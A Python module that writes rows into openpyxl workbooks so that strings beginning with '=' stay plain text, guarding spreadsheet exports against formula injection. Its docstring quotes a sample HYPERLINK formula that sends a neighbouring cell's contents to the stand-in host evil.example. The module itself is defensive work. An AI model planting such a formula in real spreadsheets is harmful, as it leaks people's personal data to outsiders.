"""Writing rows into workbooks so that text stays text.

openpyxl turns any string that starts with "=" into a formula, so a vendor's leave reason
`=HYPERLINK("http://evil.example/?"&C3,"证明")` would become a live link in the ledger that sends
other members' names to a stranger when clicked. Every workbook the service writes appends its
rows through `append`, which stores each string as a string (data type "s"), never a formula.
Numbers stay numbers.
"""
from __future__ import annotations

from openpyxl.cell.cell import ERROR_CODES, TYPE_STRING


def append(ws, values) -> None:
    values = list(values)
    ws.append(values)
    row = ws._current_row  # the row append just wrote (ws.max_row scans every cell: quadratic over a sheet)
    for column, value in enumerate(values, 1):
        if isinstance(value, str):
            ws.cell(row, column).data_type = TYPE_STRING


def append_row(ws, values) -> None:
    """`append` for write-only sheets (large exports): each string a text cell, each date a date."""
    import datetime as dt

    from openpyxl.cell import WriteOnlyCell

    cells = []
    for value in values:
        if isinstance(value, str):
            if not value.startswith("=") and value not in ERROR_CODES:
                cells.append(value)  # openpyxl stores every other string as text: no cell object needed
                continue
            cell = WriteOnlyCell(ws, value=value)
            cell.data_type = TYPE_STRING
        elif isinstance(value, dt.date):
            cell = WriteOnlyCell(ws, value=value)
            cell.number_format = "yyyy-mm-dd"
        else:
            cell = value
        cells.append(cell)
    ws.append(cells)
